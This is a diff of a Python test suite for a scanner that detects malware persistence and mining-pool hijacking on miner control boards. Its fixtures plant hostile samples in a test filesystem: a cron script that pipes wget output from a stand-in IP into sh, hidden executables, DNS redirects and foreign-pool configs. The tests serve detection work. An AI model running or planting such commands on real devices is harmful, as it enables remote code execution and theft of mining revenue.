@@ -87,7 +87,7 @@ def test_10_to_13_and_18_every_seeded_indicator_is_found(tmp_path: Path, keys: t
     envelope = sign_document(build_baseline(root), keys[0])
     infect(root)
     report = Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan()
-    where = {(f.check, f.path.split(":")[0]) for f in report.findings}
+    where = {(f.check.split(":")[0], f.path.split(":")[0]) for f in report.findings}
     expected = {
         # 10 planted IOC files and hosts entries
         ("ioc-file", "etc/ld.so.preload"), ("ioc-file", "usr/bin/build"), ("ioc-file", "config/.antminers"),
@@ -258,3 +258,200 @@ async def test_scan_runs_fleet_wide_as_a_bulk_action(tmp_path: Path, keys: tuple
         for node in nodes:
             await node.stop()
         await bus.close()
+
+
+# -- issue 12: every persistence class, with and without a baseline; links, contents, CLI errors -------------
+
+STOCK = {  # what a clean control board has at those places (all in the baseline)
+    "etc/inittab": b"::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n",
+    "root/.profile": b"# ~/.profile\nexport PATH=/usr/sbin:/usr/bin:/sbin:/bin\n",
+    "etc/dnsmasq.conf": b"# dnsmasq\ndomain-needed\nbogus-priv\n",
+    "etc/systemd/system/multi-user.target.wants/openmos.service": b"[Service]\nExecStart=/usr/bin/openmos-agent\n",
+    "config/cgminer.conf": b'{"pools": [{"url": "stratum+tcp://10.0.0.5:3333", "user": "me.rig1", "pass": "x"}]}',
+}
+
+
+def plant(root: Path, rel: str, data: bytes, mode: int = 0o644) -> None:
+    path = root / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    path.chmod(mode)
+
+
+# (class, path, bytes, mode, check, minimum severity without a baseline)
+PLANTS = [
+    ("cron.hourly", "etc/cron.hourly/ntpdate", b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n", 0o755,
+     "persistence:cron", "high"),
+    ("cron.d", "etc/cron.d/sync", b"*/10 * * * * root /usr/bin/sync-clock\n", 0o644, "persistence:cron", "medium"),
+    ("user crontab", "var/spool/cron/crontabs/root", b"@reboot /usr/bin/antminers\n", 0o600, "persistence:cron",
+     "high"),
+    ("systemd wants", "etc/systemd/system/multi-user.target.wants/kworker.service",
+     b"[Service]\nExecStart=/var/tmp/.k/kworker -o stratum+tcp://203.0.113.66:3333\n", 0o644,
+     "persistence:systemd", "high"),
+    ("inittab respawn", "etc/inittab", STOCK["etc/inittab"] + b"mnr:2345:respawn:/usr/lib/.cache/upd\n", 0o644,
+     "persistence:inittab", "high"),
+    ("root .profile", "root/.profile", STOCK["root/.profile"] + b"(/dev/shm/.s &) 2>/dev/null\n", 0o644,
+     "persistence:shell-profile", "high"),
+    ("root .bashrc", "root/.bashrc", b"alias ls='ls --color'\nnohup /usr/bin/upd >/dev/null 2>&1 &\n", 0o644,
+     "persistence:shell-profile", "high"),
+    ("dnsmasq redirect", "etc/dnsmasq.conf", STOCK["etc/dnsmasq.conf"] + b"address=/bitmsfser.info/203.0.113.7\n",
+     0o644, "dns-redirect", "critical"),
+    ("dnsmasq pool redirect", "etc/dnsmasq.conf", STOCK["etc/dnsmasq.conf"]
+     + b"address=/stratum.braiins.com/203.0.113.66\n", 0o644, "dns-redirect", "high"),
+    ("tmp executable", "tmp/.x/kworker", b"\x7fELF\x02\x01\x01" + b"\0" * 64, 0o755, "temp-executable", "critical"),
+    ("var/tmp executable", "var/tmp/upd.sh", b"#!/bin/sh\nwhile :; do sleep 60; done\n", 0o755, "temp-executable",
+     "high"),
+    ("dev/shm executable", "dev/shm/.s", b"\x7fELF" + b"\1" * 32, 0o700, "temp-executable", "critical"),
+    ("stock cgminer.conf, foreign pool", "config/cgminer.conf",
+     b'{"pools": [{"url": "stratum+tcp://203.0.113.66:3333", "user": "thief.1", "pass": "x"}]}', 0o644,
+     "pool-config", "high"),
+    ("stock bmminer.conf, foreign pool", "config/bmminer.conf",
+     b'{"pools": [{"url": "stratum+tcp://pool.thief.example:443", "user": "thief.2"}]}', 0o644, "pool-config",
+     "high"),
+]
+SEVERITY = {"info": 0, "medium": 1, "high": 2, "critical": 3}
+
+
+def stock_tree(root: Path) -> Path:
+    clean_tree(root)
+    for rel, data in STOCK.items():
+        plant(root, rel, data)
+    return root
+
+
+@pytest.mark.parametrize("with_baseline", [False, True], ids=["no-baseline", "baseline"])
+@pytest.mark.parametrize(("what", "rel", "data", "mode", "check", "severity"), PLANTS, ids=[p[0] for p in PLANTS])
+def test_each_persistence_class_is_found(tmp_path: Path, keys: tuple[bytes, bytes], with_baseline: bool, what: str,
+                                         rel: str, data: bytes, mode: int, check: str, severity: str) -> None:
+    root = stock_tree(tmp_path / "fs")
+    envelope = sign_document(build_baseline(root), keys[0])
+
+    def scan() -> list[tuple[str, str, str]]:
+        scanner = Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED) if with_baseline \
+            else Scanner(root, None, DECLARED)
+        return [(f.check, f.path.split(":")[0].split("#")[0], f.severity) for f in scanner.scan().findings]
+
+    before = [f for f in scan() if f[0] == check and f[1] == rel]
+    assert not before or (not with_baseline and SEVERITY[before[0][2]] < SEVERITY[severity]), before
+    plant(root, rel, data, mode)
+    hits = [f for f in scan() if f[0] == check and f[1] == rel]
+    assert hits, f"{what}: nothing reported at {rel}"
+    worst = max(SEVERITY[s] for _, _, s in hits)
+    # A baseline makes any new or changed persistence point at least "high"; without one, content decides.
+    assert worst >= SEVERITY["high" if with_baseline else severity], (what, hits)
+
+
+def test_clean_stock_tree_with_baseline_is_silent_and_without_is_not_alarming(tmp_path: Path,
+                                                                              keys: tuple[bytes, bytes]) -> None:
+    root = stock_tree(tmp_path / "fs")
+    envelope = sign_document(build_baseline(root), keys[0])
+    assert Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan().findings == []
+    report = Scanner(root, None, DECLARED).scan()
+    assert report.worst() in ("info", "medium"), report.findings  # stock files are "review", never an alarm
+
+
+SECRET = "root:$6$VERYSECRETHASHVALUE:19000:0:99999:7:::"
+
+
+def test_symlinked_persistence_points_are_never_followed_or_printed(tmp_path: Path, keys: tuple[bytes, bytes],
+                                                                    capsys: pytest.CaptureFixture[str]) -> None:
+    """authorized_keys -> a host file must not make the scan read it, let alone print its lines."""
+    host = tmp_path / "host-etc"
+    host.mkdir()
+    (host / "passwd").write_text(SECRET + "\nssh-rsa AAAAB3Nza line-that-looks-active\n")
+    (host / "cron.d").mkdir()
+    (host / "cron.d" / "host-job").write_text("* * * * * root " + SECRET + "\n")
+    root = stock_tree(tmp_path / "fs")
+    envelope = sign_document(build_baseline(root), keys[0])
+    (root / "root/.ssh/authorized_keys").unlink()
+    os.symlink(host / "passwd", root / "root/.ssh/authorized_keys")
+    os.symlink(host / "passwd", root / "etc/crontab.tmp")
+    (root / "etc/crontab").unlink()
+    os.symlink(host / "passwd", root / "etc/crontab")
+    os.symlink(host / "cron.d", root / "etc/cron.d")  # a whole directory pointing out of the root
+    os.symlink(host / "passwd", root / "etc/dnsmasq.d")
+    (root / "config/cgminer.conf").unlink()
+    os.symlink(host / "passwd", root / "config/cgminer.conf")
+    (root / "tmp").mkdir()
+    os.symlink(host / "passwd", root / "tmp/payload")
+    for report in (Scanner(root, None, DECLARED).scan(),
+                   Scanner.with_signed_baseline(root, envelope, keys[1], DECLARED).scan()):
+        text = json.dumps([f.__dict__ for f in report.findings])
+        assert "VERYSECRET" not in text and "line-that-looks-active" not in text and "host-job" not in text
+        links = {f.path for f in report.findings if "symbolic link" in f.detail}
+        assert {"root/.ssh/authorized_keys", "etc/crontab"} <= links
+    args = ["scan", "--root", str(root), "--allow-endpoint", "10.0.0.5:3333"]
+    main(args)
+    main([*args, "--json"])
+    out = capsys.readouterr()
+    assert "VERYSECRET" not in out.out + out.err and "host-job" not in out.out + out.err
+
+
+def test_fifo_and_huge_files_at_persistence_points_do_not_hang_the_scan(tmp_path: Path) -> None:
+    root = stock_tree(tmp_path / "fs")
+    (root / "etc/cron.d").mkdir(parents=True)
+    os.mkfifo(root / "etc/cron.d/pipe")  # opening a FIFO for reading would block forever
+    os.mkfifo(root / "config/bmminer.conf")
+    with (root / "root/.bashrc").open("wb") as fh:
+        fh.truncate(200 * 1024 * 1024)  # sparse 200 MiB: only the first MiB is looked at
+    (root / "config/cgminer.conf").write_text("[" * 100_000)  # deeply nested JSON
+    report = Scanner(root, None, DECLARED).scan()
+    assert any(f.path == "etc/cron.d/pipe" and "not a regular file" in f.detail for f in report.findings)
+    assert any(f.path == "config/cgminer.conf" and "not valid JSON" in f.detail for f in report.findings)
+
+
+def test_markup_in_hostile_names_is_not_interpreted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = stock_tree(tmp_path / "fs")
+    (root / "etc/cron.d").mkdir(parents=True)
+    os.symlink("/tmp/[link=http://evil.example]click[/link]\x1b[2J", root / "etc/cron.d/x")
+    assert main(["scan", "--root", str(root)]) == 1
+    out = capsys.readouterr().out
+    assert "[link=http://evil.example]" in out.replace("\n", "") or "link=http" in out
+    assert "\x1b[2J" not in out
+
+
+def test_baseline_without_pubkey_is_a_clear_error(tmp_path: Path, keys: tuple[bytes, bytes],
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    root = stock_tree(tmp_path / "fs")
+    base = tmp_path / "baseline.json"
+    assert main(["scan", "--root", str(root), "--make-baseline", str(base), "--key", str(tmp_path / "k.pem")]) == 0
+    capsys.readouterr()
+    assert main(["scan", "--root", str(root), "--baseline", str(base)]) == 2
+    err = capsys.readouterr().err
+    assert "--baseline and --pubkey go together" in err and len(err.strip().splitlines()) == 1
+    assert main(["scan", "--root", str(root), "--pubkey", str(tmp_path / "k.pub")]) == 2
+    assert "go together" in capsys.readouterr().err
+    (tmp_path / "junk.json").write_text("{not json")
+    assert main(["scan", "--root", str(root), "--baseline", str(tmp_path / "junk.json"),
+                 "--pubkey", str(tmp_path / "k.pub")]) == 2
+    err = capsys.readouterr().err
+    assert "is not JSON" in err and "Traceback" not in err
+    assert main(["scan", "--root", str(tmp_path / "missing")]) == 2
+    assert "not a directory" in capsys.readouterr().err
+
+
+def test_ipv4_mapped_loopback_is_not_an_undeclared_endpoint(tmp_path: Path) -> None:
+    root = stock_tree(tmp_path / "fs")
+    # tcp6 rows: ::ffff:127.0.0.1:4028 (local API client), ::ffff:10.0.0.5:3333 (declared pool),
+    # ::ffff:203.0.113.66:3333 (undeclared), and two malformed rows that must be skipped.
+    (root / "proc/net/tcp6").write_text(
+        "  sl  local_address                         remote_address                        st\n"
+        "   0: 0000000000000000FFFF00000100007F:9C40 0000000000000000FFFF00000100007F:0FBC 01\n"
+        "   1: 0000000000000000FFFF00000200000A:9C41 0000000000000000FFFF00000500000A:0D05 01\n"
+        "   2: 0000000000000000FFFF00000200000A:9C42 0000000000000000FFFF00004271_0CB:0D05 01\n"
+        "   3: 0000000000000000FFFF00000200000A:9C43 0000000000000000FFFF00004200710B:0D05 01\n"
+        "   4: garbage ZZ:QQ 01\n")
+    report = Scanner(root, None, DECLARED).scan()
+    egress = [f.detail for f in report.by_check("egress")]
+    assert egress == ["connection to undeclared endpoint 11.113.0.66:3333"], egress
+    # Declared as an IPv4-mapped address or a host name with a port, the endpoint is recognised too.
+    assert not Scanner(root, None, {"[::ffff:11.113.0.66]:3333", "10.0.0.5"}).scan().by_check("egress")
+
+
+def test_declared_pool_in_cgminer_conf_is_quiet_and_known_malware_pool_is_critical(tmp_path: Path) -> None:
+    root = stock_tree(tmp_path / "fs")
+    assert not Scanner(root, None, DECLARED).scan().by_check("pool-config")
+    undeclared = Scanner(root, None, set()).scan().by_check("pool-config")
+    assert [f.severity for f in undeclared] == ["medium"]  # nothing declared: said, not alarmed
+    plant(root, "config/cgminer.conf", b'{"pools": [{"url": "stratum+tcp://x.bitmsfser.info:3333"}]}')
+    assert [f.severity for f in Scanner(root, None, DECLARED).scan().by_check("pool-config")] == ["critical"]
